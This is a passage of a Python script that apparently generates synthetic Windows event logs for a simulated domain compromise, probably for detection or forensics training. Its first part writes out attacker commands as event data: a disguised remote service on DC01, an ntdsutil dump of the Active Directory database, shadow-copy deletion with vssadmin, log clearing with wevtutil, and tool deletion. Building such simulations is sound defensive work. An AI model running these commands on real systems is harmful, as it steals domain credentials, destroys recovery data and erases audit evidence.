R("14:31:10", 505, "sc \\\\DC01 create WinUpdSvc binpath= \"C:\\Windows\\Temp\\mstsc_upd.exe -svc\" start= auto", [(SYS32 + "sc.exe", "sc  \\\\DC01 create WinUpdSvc binpath= \"C:\\Windows\\Temp\\mstsc_upd.exe -svc\" start= auto")])
R("14:31:42", 19, "sc \\\\DC01 start WinUpdSvc", [(SYS32 + "sc.exe", "sc  \\\\DC01 start WinUpdSvc")])
logon(at("14:31:42", 300), DC, ADM, 3, NO_PROCESS, "10.20.30.47", "50131", "WKS-FIN-07", package="NTLM", logon_process="NtLmSsp ", elevated="%%1842")
dc_svc = start(DC, at("14:31:42", 770), "C:\\Windows\\Temp\\mstsc_upd.exe", "C:\\Windows\\Temp\\mstsc_upd.exe -svc", D_SERVICES, user=SYS_D)
R("14:33:05", 240, "rundll32.exe C:\\Users\\akimura\\AppData\\Local\\Temp\\wlbsctrl.dll,DllRegisterServer", [(SYS32 + "rundll32.exe", "rundll32.exe  C:\\Users\\akimura\\AppData\\Local\\Temp\\wlbsctrl.dll,DllRegisterServer")])
# on DC01 the implant dumps the directory and removes traces; 4688 without command lines
D = lambda hms, ms, command, children=(), **kw: shell(DC, at(hms, ms), dc_rat, command, children, **kw)
D("14:36:20", 12, "whoami", [(SYS32 + "whoami.exe", "whoami")])
D("14:38:02", 600, "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q", [(SYS32 + "ntdsutil.exe", "ntdsutil  \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q")], runtime_ms=15000)
D("14:45:30", 77, "vssadmin delete shadows /all /quiet", [(SYS32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet")])
D("14:47:12", 333, "wevtutil cl System", [(SYS32 + "wevtutil.exe", "wevtutil  cl System")])
# back on the workstation: clean up
R("14:52:40", 150, "vssadmin delete shadows /all /quiet", [(SYS32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet")], status="0x2")
R("14:53:31", 48, "wevtutil cl \"Windows PowerShell\"", [(SYS32 + "wevtutil.exe", "wevtutil  cl \"Windows PowerShell\"")])
R("14:54:02", 902, "del /f /q %TEMP%\\ad.csv %TEMP%\\dsquery.exe %TEMP%\\csvde.exe")

# ---- afternoon: the user keeps working ------------------------------------------------------
excel2 = start(WKS, at("15:10:22", 305), OFFICE + "EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" ", EXPL)
note2 = start(WKS, at("16:02:48", 760), SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" ", EXPL)
later(note2, at("16:05:00", 15))
werf = start(WKS, at("16:40:03", 500), SYS32 + "WerFault.exe", "C:\\Windows\\system32\\WerFault.exe -u -p %d -s 2240" % teams.pid, teams)
later(werf, at("16:40:09", 0))
later(teams, at("16:40:10", 120), "0xc0000409")
later(excel2, at("17:21:30", 5))
later(outlook, at("17:31:02", 640))
later(chrome, at("17:31:40", 70))


for _, _, ev in sorted(EVENTS, key=lambda e: (e[0], e[1])):
    sys.stdout.write(json.dumps(ev, ensure_ascii=False, separators=(",", ":")) + "\n")
